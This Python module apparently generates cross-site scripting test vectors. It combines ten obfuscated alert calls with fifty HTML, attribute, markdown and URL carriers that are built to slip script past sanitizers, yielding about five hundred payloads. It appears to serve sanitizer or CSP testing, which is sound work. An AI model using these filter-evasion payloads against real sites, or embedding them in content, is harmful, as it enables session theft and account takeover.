"""Five hundred ways to write script where text is wanted: pieces that have worked somewhere, in each other's wrappings.

Whatever runs calls `alert`, which a browser shows as a dialog, or breaks the content security policy, which it reports.
"""

from itertools import product

CALLS = (
    "alert(1)", "alert`1`", "(alert)(1)", "window['al'+'ert'](1)", "[1].find(alert)", "&#97;lert(1)",
    "top[/al/.source+/ert/.source](1)", "eval('al'+'ert(1)')", "setTimeout('alert(1)')", "\\u0061lert(1)",
)  # fmt: skip
CARRIERS = (
    "<script>{}</script>", "<ScRiPt >{}</sCrIpT>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</script><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>", "<scr<script>ipt>{}</script>",
    "<img src=x onerror={}>", '<img src=x onerror="{}">', "<img/src=x/onerror={}>", "<img src=`x`onerror={}>",
    '"><img src=x onerror={}>', "'><img src=x onerror={}//", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<math><mtext><img src=x onerror={}>", "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>", "<object data=javascript:{}>",
    "<embed src=javascript:{}>", "<details open ontoggle={}>", "<video><source onerror={}>", "<audio src=x onerror={}>",
    "<input autofocus onfocus={}>", '" autofocus onfocus={} x="', "' autofocus onfocus={} x='", "<marquee onstart={}>",
    "<select autofocus onfocus={}>", "<a href=javascript:{}>x</a>", "[x](javascript:{})", "[x](  JaVaScRiPt:{})",
    "[x](data:text/html,<script>{}</script>)", "![x](x\"onerror=\"{})", "[x](http://a\"onmouseover=\"{})",
    "<javascript:{}>", "<http://a.b/\"onclick=\"{}>", "`<script>{}</script>`", "~~<img src=x onerror={}>~~",
    "# <svg onload={}>", "> <svg onload={}>", "<style>@import'javascript:{}'</style>", "<div style=x:expression({})>",
    "<form><button formaction=javascript:{}>x", "<base href=javascript:{}//>", "<link rel=import href=javascript:{}>",
    "<template><script>{}</script></template><noscript><p title='</noscript><img src=x onerror={}>'>",
)  # fmt: skip
VECTORS = tuple(carrier.replace("{}", call) for carrier, call in product(CARRIERS, CALLS))
